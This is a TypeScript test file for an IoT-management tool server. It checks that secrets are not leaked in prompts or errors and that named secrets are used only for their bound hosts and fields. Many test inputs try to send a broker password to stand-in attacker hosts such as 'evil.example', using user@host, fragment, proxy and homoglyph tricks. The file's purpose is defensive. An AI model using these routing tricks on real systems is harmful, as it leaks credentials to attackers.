/** Secrets that callers write into inputs, and named secrets of the secrets file: where they go, and what they never hide. */
import { describe, expect, it } from 'vitest';

import type { NamedSecret } from '../../src/text/named-secret.ts';
import { applyInSecondStep, countRequests, startTestServer, yes } from '../support/test-server.ts';

const local = { transport: 'stdio', era: 'auto' } as const;
const all = { flags: { toolsets: 'thingpark,thingspace,iotx,fleet,changes,operations' } };
const device = {
  name: 'Fridge 1',
  devEui: 'A81758FFFE0B0001',
  model: 'SMTC/LoRaMoteA.1_EU',
  activation: 'OTAA',
  joinEui: 'A81758FFFE000000',
};
const key = '0A1B2C3D4E5F60718293A4B5C6D7E8F9';
const sim = { sims: [{ iccid: '89148000000077000037' }] };
const broker = (configuration: object) => ({
  name: 'Plant broker',
  connector: 'actility-mqtt-iot',
  configuration: {
    hostName: 'broker.example:8883',
    protocol: 'SSL',
    uplinkTopicPattern: 'up/{DevEUI}',
    downlinkTopicPattern: 'down/{DevEUI}',
    username: 'plant',
    ...configuration,
  },
});

describe('texts of a caller and the sentences of the product', () => {
  it('a sentence passed as a secret of a refused read is not hidden in the question to another person', async () => {
    const { connectClient } = await startTestServer(all);
    const first = await connectClient(local);
    const plain = (await first.call('suspend_sim', { ...sim, preview: true })).structured.change.summary as string;
    const pieces = [plain, plain.slice(0, 60), '(1 SIM) on sandbox-thingspace', '89148000000077000037', 'sandbox-thingspace'];
    for (const secret of pieces) {
      await first.call('read_operation', { operation: 'thingspace.devices.list', input: { body: { secret: [secret] } } });
      await first.call('read_operation', { operation: 'thingpark.tokens.info', input: { query: { access_token: secret } } });
      await first.call('add_lorawan_device', { ...device, appKey: secret });
      await first.call('add_app_server', { ...broker({ password: secret }), preview: true });
    }
    const second = await connectClient({ ...local, person: yes });
    const { change } = (await second.call('suspend_sim', sim)).structured;
    expect(change.summary).toBe(plain);
    expect(second.asked[0]).toContain(plain);
    expect((await first.call('list_changes', {})).text).toContain(plain.slice(0, 60));
  });

  it('a password that is the host of the request is refused, so it cannot hide where the data go', async () => {
    const { connectClient, world } = await startTestServer(all);
    const { call, asked } = await connectClient({ ...local, person: yes });
    const hostName = 'ingest.evil-historian.example';
    const refused = await call('add_app_server', broker({ hostName, password: hostName.toUpperCase() }));
    expect(refused.structured.error).toMatchObject({
      message: 'body.configuration.hostName: holds the value of the secret field body.configuration.password',
      field: 'body.configuration.hostName',
    });
    const hidden = await call('add_lorawan_device', { ...device, appKey: key, name: `Fridge ${key.toLowerCase()}` });
    expect(hidden.text).toBe(
      'body.name: holds the value of the secret field body.appKey. Nothing was sent. Put the secret into body.appKey only: body.name is shown and stored.',
    );
    expect([asked, countRequests(world, 'thingpark.dxConnections.create')]).toEqual([[], 0]);
  });

  it('an all-zero AppKey is warned about and hides nothing: the next downlink is shown, confirmed and applied', async () => {
    const { connectClient, world } = await startTestServer(all);
    const { call } = await connectClient(local);
    const zero = await call('add_lorawan_device', { ...device, appKey: '0'.repeat(32), preview: true });
    expect(zero.structured.change.warnings).toContain('A81758FFFE0B0001: appKey is all zeros');
    const planned = await call('send_downlink', { device: 'A81758FFFE0A0001', port: 2, payload: `${'00'.repeat(16)}01` });
    expect(planned.structured.change.summary).toContain(`${'00'.repeat(16)}01`);
    expect((await applyInSecondStep(call, planned)).structured.change.status).not.toBe('planned');
    expect(countRequests(world, 'thingpark.devices.downlink') + countRequests(world, 'thingpark.dxDevices.downlink')).toBe(1);
  });

  it('a signing key that repeats one byte is warned about', async () => {
    const { connectClient } = await startTestServer(all);
    const { call } = await connectClient(local);
    const { change } = (
      await call('change_operation', {
        operation: 'thingpark.appServers.create',
        input: {
          body: {
            name: 'Lake',
            type: 'HTTP',
            destinations: [{ addresses: ['https://lake.example/in'], ports: '*', strategy: 'SEQUENTIAL' }],
            downlinkSecurity: { status: 'DOWNLINK_AS_KEY', downlinkAsKey: 'AB'.repeat(16) },
          },
        },
        preview: true,
      })
    ).structured;
    expect(change.warnings).toContain('"body.downlinkSecurity.downlinkAsKey" repeats the same few digits: everybody can guess this key');
  });

  it('an error about an input does not repeat the value of a secret field', async () => {
    const { connectClient } = await startTestServer(all);
    const { call } = await connectClient(local);
    const secret = 'correct horse battery staple';
    for (const args of [
      { ...device, appKey: secret },
      { ...device, appKey: { secret } },
      { ...device, appKey: `secret:${secret}` },
      { ...device, appKey: key, [key]: 1 },
      { ...device, appKey: secret, [secret]: 1 },
      { ...device, appKey: [secret] },
      { ...device, appKey: secret, devEui: secret },
    ]) {
      const answer = await call('add_lorawan_device', args);
      expect(answer.isError).toBe(true);
      const said = answer.text + JSON.stringify(answer.structured);
      expect(said).not.toContain(secret);
      expect(said).not.toContain(key);
    }
  });
});

describe('named secrets', () => {
  const bound = {
    value: 'the-real-broker-password',
    operations: ['thingpark.dxConnections.*'],
    field: 'body.configuration.password',
    hosts: ['broker.example'],
  };
  const withSecrets = (secrets: Record<string, NamedSecret>) =>
    startTestServer({
      ...all,
      adjust: (config) => {
        for (const [name, secret] of Object.entries(secrets)) config.secrets.set(name, secret);
      },
    });

  it('the question names the secret, its field and the host to which it goes', async () => {
    const { connectClient, world } = await withSecrets({ mqttpw: bound });
    const { call, asked } = await connectClient({ ...local, person: yes });
    const { change } = (await call('add_app_server', broker({ password: { secret: 'mqttpw' } }))).structured;
    expect(change.warnings).toContain('uses the named secret "mqttpw" in "body.configuration.password", for "broker.example:8883"');
    expect(asked[0]).toContain('Warning: uses the named secret "mqttpw" in "body.configuration.password", for "broker.example:8883".');
    expect(world.thingpark.connections[0]?.configuration).toMatchObject({ password: 'the-real-broker-password' });
  });

  it.each<[string, object, string]>([
    [
      'another host',
      { hostName: 'evil.example:8883', password: { secret: 'mqttpw' } },
      'the named secret mqttpw is not used: it is not bound to the host evil.example:8883, to which the request sends it. Nothing was sent. An operator can set "host": "evil.example:8883" for mqttpw in the secrets file.',
    ],
    [
      'a second host in another member',
      { destinationURL: 'https://evil.example/in', password: 'secret:mqttpw' },
      'it is not bound to the host evil.example',
    ],
    [
      'a user name and a foreign host in one text',
      { hostName: 'broker.example@evil.example:8883', password: 'secret:mqttpw' },
      'the address in body.configuration.hostName does not tell one host',
    ],
    ...(
      [
        ['a path before the host', { hostName: 'evil.example:8883/@broker.example:8883' }, 'configuration.hostName does not tell one host'],
        ['a fragment', { hostName: 'evil.example:8883#@broker.example' }, 'configuration.hostName does not tell one host'],
        ['a user in a URL', { destinationURL: 'https://broker.example@evil.example/x' }, 'destinationURL does not tell one host'],
        ['a proxy', { proxy: 'evil.example:1080' }, 'it is not bound to the host evil.example:1080'],
        ['a member of any name', { bridgeTo: 'evil.example:8883' }, 'it is not bound to the host evil.example:8883'],
        ['an address without a scheme', { forward: '//evil.example/x' }, 'configuration.forward does not tell one host'],
        ['an IP address', { gatewayIp: '10.0.0.66' }, 'it is not bound to the host 10.0.0.66'],
        ['a nested member', { bridge: { to: 'evil.example' } }, 'it is not bound to the host evil.example'],
        ['a connection string', { link: 'HostName=evil.example;x=1' }, 'configuration.link does not tell one host'],
        ['a letter of another script', { hostName: 'br\u043eker.example:8883' }, 'it is not bound to the host xn--brker-kye.example:8883'],
      ] as [string, object, string][]
    ).map(([title, more, said]): [string, object, string] => [title, { password: 'secret:mqttpw', ...more }, said]),
    [
      'another field',
      { privateKey: { secret: 'mqttpw' } },
      'it is bound to body.configuration.password, not to body.configuration.privateKey',
    ],
  ])('a bound secret is refused for %s, before anybody is asked', async (_, configuration, said) => {
    const { connectClient, world } = await withSecrets({ mqttpw: bound });
    const { call, asked } = await connectClient({ ...local, person: yes });
    const refused = await call('add_app_server', broker(configuration));
    expect(refused.isError).toBe(true);
    expect(refused.text).toContain(said);
    expect(refused.text).not.toContain('the-real-broker-password');
    expect([asked, world.thingpark.connections]).toEqual([[], []]);
  });

  it('a bound secret is refused for another operation', async () => {
    const { connectClient } = await withSecrets({ mqttpw: { ...bound, operations: ['thingpark.dxConnections.update'] } });
    const { call } = await connectClient({ ...local, person: yes });
    const refused = await call('add_app_server', broker({ password: { secret: 'mqttpw' } }));
    expect(refused.text).toContain('it is not bound to the operation thingpark.dxConnections.create');
  });

  it('a secret without a binding is accepted as a key of a device and for nothing else', async () => {
    const { connectClient, world } = await withSecrets({ fridges: key, mqttpw: 'the-real-broker-password' });
    const { call, asked } = await connectClient({ ...local, person: yes });
    const refused = await call('add_app_server', broker({ password: { secret: 'mqttpw' } }));
    expect(refused.text).toContain(
      'the named secret mqttpw is not used: it has no binding, and the request sends it to broker.example:8883.',
    );
    const callback = await call('change_operation', {
      operation: 'thingspace.callbacks.register',
      input: {
        path: { accountName: '0442000123-00001' },
        body: { name: 'CarrierService', url: 'https://evil.example/in', username: 'x', password: 'secret:fridges' },
      },
    });
    expect(callback.text).toContain('it has no binding, and the request sends it to evil.example');
    const { change } = (await call('add_lorawan_device', { ...device, appKey: { secret: 'fridges' } })).structured;
    expect(change.status).toBe('applied');
    expect(change.warnings).toContain('uses the named secret "fridges" in "body.appKey"');
    expect(asked).toHaveLength(1);
    expect(countRequests(world, 'thingpark.devices.create')).toBe(1);
  });

  it('a named secret is refused in every read, and nothing is sent', async () => {
    const { connectClient, world } = await withSecrets({ mqttpw: { ...bound, operations: ['*'], field: 'query.access_token', hosts: [] } });
    const { call } = await connectClient(local);
    for (const access_token of [{ secret: 'mqttpw' }, 'secret:mqttpw']) {
      const refused = await call('read_operation', { operation: 'thingpark.tokens.info', input: { query: { access_token } } });
      expect(refused.text).toBe(
        'input.query.access_token: a named secret is never used in a read. Nothing was sent. Leave it out; only a change takes one.',
      );
    }
    expect(world.requestLog).toEqual([]);
  });

  it('a change that writes a secret of this server into a field that is shown is refused', async () => {
    const { connectClient, world } = await withSecrets({ mqttpw: bound });
    const { call } = await connectClient(local);
    const refused = await call('update_device', { device: 'A81758FFFE0A0001', name: 'x The-Real-Broker-Password' });
    expect(refused.text).toMatch(/^name: holds a secret of this server\. Nothing was sent\./);
    expect(countRequests(world, 'thingpark.devices.update')).toBe(0);
  });
});
